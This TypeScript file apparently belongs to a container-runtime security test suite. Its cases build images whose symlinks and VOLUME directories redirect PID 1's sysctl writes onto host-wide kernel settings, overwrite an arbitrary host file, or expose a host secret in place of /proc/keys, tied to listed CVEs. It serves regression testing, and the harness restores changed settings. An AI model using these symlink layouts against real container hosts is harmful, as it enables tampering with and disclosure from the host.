/**
 * PID 1 writes sysctls of the container's namespaces. An image that covers /proc/sys/net with links of its own lets it
 * write its value into a setting of the whole machine, or, where a script does it, into any file of the host.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CannotRun, type AttackCase, type Stage, type Way } from '../case.ts';
import { isRefusal } from '../probe.ts';
import { fakeSysctls, link, volumes, type Files } from './shared.ts';

const SYSCTL_WAYS: readonly Way[] = ['run', 'create', 'exec', 'init', 'script', 'privileged'];

interface Redirect {
  readonly name: string;
  readonly story: string;
  /** Below /proc/sys: what PID 1 means to write, and the machine's harmless setting that it gets instead. */
  readonly meant: string;
  readonly hit: string;
  /** What /foo leads to, below /proc. */
  readonly covers: string;
  readonly flags?: readonly string[];
  /** The directory is a volume of the victim's instead of the image's VOLUME. */
  readonly asked?: boolean;
  readonly short?: boolean;
}

const PORT = 'net/ipv4/ip_unprivileged_port_start';

/** Each with a setting of its own, since they belong to the machine and cases run side by side. */
const REDIRECTS: readonly Redirect[] = [
  {
    name: 'net',
    story:
      'VOLUME over /proc/sys/net: 0 for the first unprivileged port goes to kernel.printk_ratelimit_burst.',
    meant: PORT,
    hit: 'kernel/printk_ratelimit_burst',
    covers: 'sys/net',
    short: true,
  },
  {
    name: 'net-ipv4',
    story: 'VOLUME over /proc/sys/net/ipv4: 0 for the first unprivileged port goes to vm.stat_interval.',
    meant: PORT,
    hit: 'vm/stat_interval',
    covers: 'sys/net/ipv4',
  },
  {
    name: 'ping-group-range',
    story: 'VOLUME over /proc/sys/net: the range of groups that may ping goes to kernel.printk.',
    meant: 'net/ipv4/ping_group_range',
    hit: 'kernel/printk',
    covers: 'sys/net',
  },
  {
    name: 'disable-ipv6',
    story: 'VOLUME over /proc/sys/net: 1 to turn IPv6 off goes to fs.lease-break-time.',
    meant: 'net/ipv6/conf/eth0/disable_ipv6',
    hit: 'fs/lease-break-time',
    covers: 'sys/net',
  },
  {
    name: 'asked-for',
    story: 'The victim says --sysctl, and the value goes to vm.vfs_cache_pressure.',
    meant: 'net/core/somaxconn',
    hit: 'vm/vfs_cache_pressure',
    covers: 'sys/net',
    flags: ['--sysctl', 'net.core.somaxconn=101'],
  },
  {
    name: 'named-volume',
    story: 'A named volume of the victim’s, filled by the image, covers /proc/sys/net.',
    meant: PORT,
    hit: 'vm/dirty_expire_centisecs',
    covers: 'sys/net',
    asked: true,
  },
];

/** The links that the volume is filled with, beside the files that PID 1 must find there. */
const redirectingFiles = ({ meant, covers }: Redirect, target: string): Files => ({
  ...link('/foo', `/proc/${covers}`),
  ...fakeSysctls('/proc'),
  '/proc/sys/net/core/somaxconn': '',
  ...link(`/proc/sys/${meant}`, target),
});

async function useWith(stage: Stage, way: Way, redirect: Redirect, target: string): Promise<void> {
  const asked = redirect.asked === true;
  const image = await stage.image({
    files: redirectingFiles(redirect, target),
    config: asked ? {} : volumes('/foo'),
  });
  const flags = [...(redirect.flags ?? []), ...(asked ? ['-v', 'settings:/foo'] : [])];
  const result = await stage.use(way, image, flags, ['/bin/true']);
  if (result.exitCode !== 0 && !isRefusal(result)) throw new Error(result.stderr);
}

const redirectCase = (redirect: Redirect): AttackCase => ({
  name: `sysctl-${redirect.name}`,
  story: redirect.story,
  cves: ['CVE-2025-52881', 'CVE-2019-16884'],
  ...(redirect.short === true ? { short: true } : {}),
  ways: SYSCTL_WAYS,
  attack: async (stage, way) => {
    const file = `/proc/sys/${redirect.hit}`;
    if (!existsSync(file)) throw new CannotRun(`this kernel has no ${file}`);
    const before = readFileSync(file, 'utf8');
    try {
      await useWith(stage, way, redirect, file);
      const after = readFileSync(file, 'utf8');
      return after === before
        ? undefined
        : `the machine's ${file} went from ${before.trim()} to ${after.trim()}`;
    } finally {
      if (readFileSync(file, 'utf8') !== before) writeFileSync(file, before);
    }
  },
});

const scriptWritesCase: AttackCase = {
  name: 'sysctl-script-writes-a-file',
  story:
    'The script writes the sysctl with the host’s shell, which follows the image’s link to any file of the host.',
  short: true,
  ways: ['script', 'run', 'create'],
  attack: async (stage, way) => {
    const secret = stage.secret();
    const repository = mkdtempSync(join(stage.dir, 'repository-'));
    mkdirSync(join(repository, 'ipv4'));
    symlinkSync(secret.path, join(repository, PORT.slice('net/'.length)));
    const image = await stage.image({ files: link('/foo', '/proc/sys/net') });
    const result = await stage.use(way, image, ['-v', `${repository}:/foo`], ['/bin/true']);
    if (result.exitCode !== 0 && !isRefusal(result)) throw new Error(result.stderr);
    return secret.changed() ? `the host's ${secret.path} was overwritten` : undefined;
  },
};

const scriptMaskCase: AttackCase = {
  name: 'script-masks-with-a-file',
  story:
    'VOLUME /dev brings a /dev/null that leads to a file of the host, which the script then mounts as a mask.',
  cves: ['CVE-2025-31133'],
  short: true,
  ways: ['script', 'run', 'exec'],
  attack: async (stage, way) => {
    const secret = stage.secret();
    const image = await stage.image({ files: link('/dev/null', secret.path), config: volumes('/dev') });
    const result = await stage.use(way, image, [], ['/bin/sh', '-c', 'cat /proc/keys /proc/interrupts']);
    if (result.stdout.includes(secret.text)) return `the host's ${secret.path} is shown as /proc/keys`;
    if (result.stdout !== '' || result.exitCode === 0 || isRefusal(result)) return undefined;
    throw new Error(result.stderr);
  },
};

export const sysctlCases: readonly AttackCase[] = [
  ...REDIRECTS.map(redirectCase),
  scriptWritesCase,
  scriptMaskCase,
];
